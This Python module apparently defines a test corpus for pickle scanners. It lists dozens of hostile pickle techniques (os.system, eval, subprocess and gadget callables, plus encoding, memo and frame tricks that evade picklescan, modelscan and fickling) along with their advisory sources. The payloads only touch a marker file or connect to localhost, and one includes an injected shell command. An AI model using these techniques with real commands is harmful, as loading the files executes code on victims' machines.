"""Hostile techniques, one pickle body each: what they call and how they reach it.

Learnt from the test suites of picklescan, modelscan and fickling and from bypass reports
against them and against ``torch.load`` (GHSA-* advisories, JFrog's CVE-2025-10155/6/7,
protectai/modelscan#338, python/cpython frame handling).  Nothing is copied from them: each
body is written here, and every payload is harmless: it creates the target's marker file, or
opens a connection to a port on 127.0.0.1 that the caller listens on.

A body pushes exactly one value, so it can be a whole pickle or run inside a checkpoint's.
"""

from __future__ import annotations

import pickle
import shlex
import struct
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

from corpus import bodies
from corpus.opcodes import call, glob, small_int, stack_glob, tup, ustr, whole


@dataclass(frozen=True)
class Target:
    """What a payload does: create ``marker``, or connect to 127.0.0.1:``port``."""

    marker: Path
    port: int = 0

    @property
    def cmd(self) -> str:
        return f"touch {shlex.quote(str(self.marker))}"

    @property
    def src(self) -> str:
        """Python source (an expression too) that creates the marker."""
        return f"open({str(self.marker)!r}, 'w').close()"


Body = Callable[[Target], bytes]

#: The classes of issue 12 a technique exercises.
CLASSES = ("named-callable", "gadget", "computed-callable", "frames", "module-state",
           "encoding")


@dataclass(frozen=True)
class Technique:
    id: str
    klass: str
    body: Body
    source: str  # where the technique was learnt
    proto: int = 2
    #: The real loader that runs the standalone pickle (see scan_corpus.LOADERS).
    loader: str = "pickle.loads"
    network: bool = False
    #: A whole file instead of ``whole(body)`` (frames need control over the header).
    file: Callable[[Target], bytes] | None = None

    def pickle(self, target: Target) -> bytes:
        return self.file(target) if self.file else whole(self.body(target), self.proto)


def simple(module: str, name: str, *args: Body, stack: bool = False) -> Body:
    """``module.name(*args)``, each argument built for the target."""
    name_op = stack_glob if stack else glob
    return lambda t: call(name_op(module, name), *(a(t) for a in args))


def _s(value: Callable[[Target], str]) -> Body:
    return lambda t: ustr(value(t))


CMD, SRC, MARKER = _s(lambda t: t.cmd), _s(lambda t: t.src), _s(lambda t: str(t.marker))
EMPTY_DICT: Body = lambda t: pickle.EMPTY_DICT  # noqa: E731
NONE: Body = lambda t: pickle.NONE  # noqa: E731
TRUE: Body = lambda t: pickle.NEWTRUE  # noqa: E731
FALSE: Body = lambda t: pickle.NEWFALSE  # noqa: E731


def _int(value: int) -> Body:
    return lambda t: small_int(value)


T = Technique
TECHNIQUES: list[Technique] = [
    # Dangerous names, reached through every naming opcode.
    T("global-os-system", "named-callable", simple("os", "system", CMD), "every suite"),
    T("global-posix-system", "named-callable", simple("posix", "system", CMD), "picklescan"),
    T("stack-global-memo-binget", "encoding", bodies.memo_stack_global, "picklescan #22"),
    T("inst-opcode", "encoding", bodies.inst, "picklescan malicious10"),
    T("obj-opcode", "encoding", bodies.obj, "fickling PR 108"),
    T("obj-call-popped", "encoding", bodies.obj_popped, "fickling GHSA-mxhj", proto=4),
    T("protocol4-dotted-name", "encoding", bodies.dotted_traversal, "fickling GHSA-5j3x"),
    T("pathlib-dotted-name", "encoding", bodies.pathlib_dotted, "fickling GHSA-5j3x", proto=4),
    T("eval-call-dotted", "encoding", bodies.eval_dotted_call, "modelscan malicious13", proto=5),
    T("py2-alias-cpickle-loads", "encoding", bodies.py2_alias, "picklescan malicious13a"),
    T("string-operands-stack-global", "encoding", bodies.strings_for_stack_global,
      "picklescan GHSA-9gvj", proto=0),
    T("hidden-stack-global-operands", "encoding", bodies.hidden_system, "ckptkit"),
    T("memo-misdirection", "encoding", bodies.memo_misdirection, "picklescan #22, modelscan"),
    T("int-octal-literal", "encoding", bodies.octal_int, "C vs Python unpickler"),
    T("memo-keyerror-after-payload", "encoding", bodies.memo_keyerror, "picklescan keyerror-exploit",
      proto=4),
    T("memo-type-confusion", "encoding", bodies.memo_type_confusion,
      "picklescan type-confusion-exploit", proto=4),
    T("broken-after-payload", "encoding", bodies.broken_after_payload, "picklescan broken_model"),
    T("computed-stack-global-operands", "computed-callable", bodies.computed_stack_global,
      "ckptkit"),
    # Code execution through builtins, runners and gadgets.
    T("builtins-eval", "named-callable", simple("builtins", "eval", SRC), "every suite"),
    T("builtins-exec-compile", "named-callable", bodies.exec_compile, "sour pickles"),
    T("marshal-code-function", "named-callable", bodies.marshal_function, "fickling GHSA-565g",
      proto=4),
    T("runpy-run-code", "named-callable", simple("runpy", "_run_code", SRC, EMPTY_DICT),
      "picklescan malicious14"),
    T("nested-pickle-loads", "named-callable", simple("pickle", "loads", bodies.inner),
      "modelscan malicious12"),
    T("bdb-run", "gadget", bodies.bdb_run, "picklescan malicious15", proto=4),
    T("cprofile-run", "gadget", simple("cProfile", "run", SRC, stack=True),
      "fickling GHSA-p523", proto=4),
    T("cprofile-runctx", "gadget", simple("cProfile", "runctx", SRC, NONE, NONE),
      "picklescan GHSA-9w88"),
    T("profile-run", "gadget", simple("profile", "run", SRC), "picklescan GHSA-7wx9"),
    T("timeit-setup", "gadget", simple("timeit", "timeit", _s(lambda t: "pass"), SRC),
      "picklescan malicious21"),
    T("trace-runctx", "gadget", bodies.trace_runctx, "picklescan GHSA-g344", proto=4),
    T("code-interpreter-runsource", "computed-callable", bodies.interpreter_runsource,
      "fickling GHSA-q5qq", proto=5),
    T("doctest-debug-script", "gadget", simple("doctest", "debug_script", SRC, TRUE),
      "picklescan GHSA-fqq6"),
    T("numpy-testing-runstring", "gadget",
      simple("numpy.testing._private.utils", "runstring", SRC, EMPTY_DICT),
      "picklescan malicious22"),
    T("typing-eval-type", "gadget", bodies.forward_ref, "issue 12", proto=4),
    T("typing-get-type-hints", "gadget", bodies.type_hints, "issue 12", proto=4),
    T("idlelib-calltip-get-entity", "gadget",
      simple("idlelib.calltip", "get_entity", SRC, stack=True), "picklescan GHSA-9xph",
      proto=4),
    T("lib2to3-grammar-loads", "gadget",
      lambda t: call(stack_glob("lib2to3.pgen2.grammar", "Grammar.loads"), bodies.namespace(),
                     bodies.inner(t)), "picklescan GHSA-f54q", proto=4),
    T("test-support-assert-python-ok", "gadget",
      simple("test.support.script_helper", "assert_python_ok", _s(lambda t: "-c"), SRC,
             stack=True), "picklescan GHSA-g38g", proto=4),
    T("subinterpreter-run-string", "gadget", bodies.subinterpreter, "fickling GHSA-6ggj", proto=4),
    T("dataclasses-create-fn", "computed-callable", bodies.create_fn, "issue 12", proto=4),
    T("pkgutil-resolve-name", "computed-callable", bodies.resolve_name, "picklescan GHSA-vvpj",
      proto=4),
    T("pydoc-locate", "computed-callable", bodies.pydoc_locate, "fickling GHSA-5hvc", proto=4),
    T("pydoc-locate-methodcaller", "computed-callable", bodies.pydoc_methodcaller,
      "picklescan GHSA-84r2"),
    T("importlib-import-module", "computed-callable", bodies.importlib, "fickling GHSA-q5qq",
      proto=4),
    T("getattr-import-chain", "computed-callable", bodies.getattr_chain, "sour pickles"),
    T("getattr-memo-chain", "computed-callable", bodies.memo_getattr_chain, "fickling GHSA-h4rm"),
    T("operator-attrgetter", "computed-callable", bodies.attrgetter, "picklescan malicious12"),
    T("operator-methodcaller", "computed-callable", bodies.methodcaller, "picklescan"),
    T("functools-partial", "computed-callable", bodies.partial, "picklescan malicious19"),
    T("ctypes-cdll-system", "computed-callable", bodies.ctypes_system, "fickling GHSA-5hvc",
      proto=4),
    T("build-setstate-gadget", "computed-callable", bodies.setstate_gadget, "ckptkit"),
    # Processes, files and the network.
    T("subprocess-call", "named-callable", simple("subprocess", "call", bodies.touch_argv),
      "modelscan malicious7"),
    T("subprocess-check-output", "named-callable",
      simple("subprocess", "check_output", bodies.touch_argv), "picklescan"),
    T("multiprocessing-spawnv-passfds", "gadget", bodies.spawnv_passfds, "protectai/modelscan#338",
      proto=5),
    T("torch-collect-env-run", "gadget", simple("torch.utils.collect_env", "run", CMD),
      "protectai/modelscan#338, picklescan GHSA-f745", proto=4),
    T("torch-collect-env-run-and-read-all", "gadget",
      lambda t: call(glob("torch.utils.collect_env", "run_and_read_all"),
                     glob("torch.utils.collect_env", "run"), ustr(t.cmd)),
      "picklescan GHSA-jhph"),
    T("torch-jit-exec-wrapper", "gadget",
      simple("torch.jit.unsupported_tensor_ops", "execWrapper", SRC, EMPTY_DICT, EMPTY_DICT),
      "picklescan GHSA-vr7h"),
    T("torch-datapipes-decoder-pickle", "gadget",
      lambda t: call(glob("torch.utils.data.datapipes.utils.decoder", "basichandlers"),
                     ustr("pickle"), bodies.inner(t)), "picklescan GHSA-h3qp"),
    T("asyncio-subprocess-transport", "gadget", bodies.asyncio_transport, "picklescan GHSA-f7qq",
      proto=4),
    T("pydoc-pipepager", "gadget", simple("pydoc", "pipepager", _s(lambda t: ""), CMD),
      "picklescan malicious18"),
    T("imaplib-imap4-stream", "gadget", simple("imaplib", "IMAP4_stream", CMD),
      "picklescan GHSA-g38g"),
    T("uuid-get-command-stdout", "gadget",
      lambda t: call(glob("uuid", "_get_command_stdout"), ustr("touch"), ustr(str(t.marker))),
      "fickling GHSA-5hwf"),
    T("osx-support-read-output", "gadget", simple("_osx_support", "_read_output", CMD),
      "picklescan GHSA-g38g"),
    T("osx-support-find-build-tool", "gadget",
      simple("_osx_support", "_find_build_tool", _s(lambda t: f"x; {t.cmd} #")),
      "fickling GHSA-5hwf"),
    T("venv-create", "gadget", simple("venv", "create", MARKER, FALSE, FALSE, TRUE, FALSE),
      "picklescan malicious20"),
    T("distutils-write-file", "gadget",
      lambda t: call(glob("distutils.file_util", "write_file"), ustr(str(t.marker)),
                     pickle.EMPTY_LIST), "picklescan GHSA-m273"),
    T("io-fileio-create", "named-callable", simple("_io", "FileIO", MARKER, _s(lambda t: "w")),
      "picklescan io_FileIO"),
    T("logging-filehandler", "named-callable", simple("logging", "FileHandler", MARKER),
      "picklescan logging_FileHandler"),
    T("gzip-open-write", "named-callable", simple("gzip", "open", MARKER, _s(lambda t: "wb")),
      "ckptkit"),
    T("numpy-memmap-creates-file", "named-callable",
      simple("numpy", "memmap", MARKER, _s(lambda t: "uint8"), _s(lambda t: "w+"), _int(0),
             lambda t: tup(small_int(1))), "ckptkit"),
    T("shutil-copyfile", "named-callable",
      simple("shutil", "copyfile", _s(lambda t: "/dev/null"), MARKER), "picklescan"),
    T("socket-create-connection", "named-callable",
      lambda t: call(glob("socket", "create_connection"), bodies.address(t)), "modelscan malicious6",
      network=True),
    T("ssl-get-server-certificate", "gadget",
      lambda t: call(glob("ssl", "get_server_certificate"), bodies.address(t)),
      "picklescan dns_exfiltration", network=True),
    T("nntplib-connect", "gadget",
      lambda t: call(glob("nntplib", "NNTP"), ustr("127.0.0.1"),
                     pickle.BININT2 + struct.pack("<H", t.port)), "issue 12", network=True),
    T("urllib-urlopen", "named-callable",
      lambda t: call(glob("urllib.request", "urlopen"), ustr(f"http://127.0.0.1:{t.port}/")),
      "picklescan urllib_request_urlopen", network=True),
    # Frames: one pickle, two opcode streams.
    T("frame-straddling-opcode", "frames", lambda t: b"", "cpython frames",
      file=bodies.frame_straddle),
    T("frame-hides-payload-in-bytes", "frames", lambda t: b"", "fickling frame divergence",
      file=lambda t: bodies.frame_hides(t, 0), loader="pickle.load-bytesio"),
    T("frame-longer-than-the-buffer", "frames", lambda t: b"", "cpython frames",
      file=lambda t: bodies.frame_hides(t, 200 << 10), loader="pickle.load"),
    # Module state: a BUILD on a module, then globals that read what it set.
    T("build-module-then-stack-global", "module-state", bodies.module_build, "issue 12"),
    T("build-module-poisons-allowlisted-name", "module-state", bodies.poisoned_allowlisted_name,
      "issue 12"),
]
